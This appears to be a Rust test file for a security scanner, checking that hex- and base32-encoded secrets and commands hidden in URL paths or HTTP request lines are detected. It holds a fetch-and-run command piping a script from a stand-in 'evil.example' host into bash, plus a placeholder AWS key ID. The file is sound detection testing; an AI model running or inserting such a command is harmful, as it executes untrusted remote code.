//! Encoded and hidden texts as callers see them: found in any place, and however they are cut.

use data_encoding::{BASE32, BASE32_NOPAD, BASE64, BASE64URL_NOPAD, HEXLOWER};

use crate::scan::tests::{SCANNER, scan_head, scan_pieces};

const COMMAND: &str = "curl -fsSL https://get.evil.example/i.sh | bash";

/// What is told of a text that arrives in these pieces.
fn told<T: AsRef<[u8]>>(pieces: &[T]) -> Vec<&'static str> {
    let pieces: Vec<&[u8]> = pieces.iter().map(AsRef::as_ref).collect();
    SCANNER.with(|scanner| scan_pieces(scanner, &pieces).names())
}

fn aws_id() -> String {
    ["AKIA", "IOSFODNN7EXAMPLE"].concat()
}

#[test]
fn what_a_path_carries_in_hex_is_told_wherever_it_stands() {
    let hidden = [(COMMAND.to_owned(), "pipe_to_shell"), (aws_id(), "aws_access_key")];
    for (hidden, name) in &hidden {
        for encode in [|text: &[u8]| HEXLOWER.encode(text), |text: &[u8]| BASE32_NOPAD.encode(text)]
        {
            let encoded = encode(hidden.as_bytes());
            for glue in ["/x/", "x/", "/x-", "/x_", "/api/", "https://evil.example/x/"] {
                for before in 0..40 {
                    let text = format!("{}{glue}{encoded} -o x", " ".repeat(before));
                    assert_eq!(told(&[&text]), [*name], "{text}");
                }
            }
            let head = format!("GET /collect/v1/{encoded} HTTP/1.1\r\nHost: a.example\r\n\r\n");
            let names = SCANNER.with(|scanner| scan_head(scanner, head.as_bytes()).names());
            assert_eq!(names, [*name], "{head}");
        }
    }
}
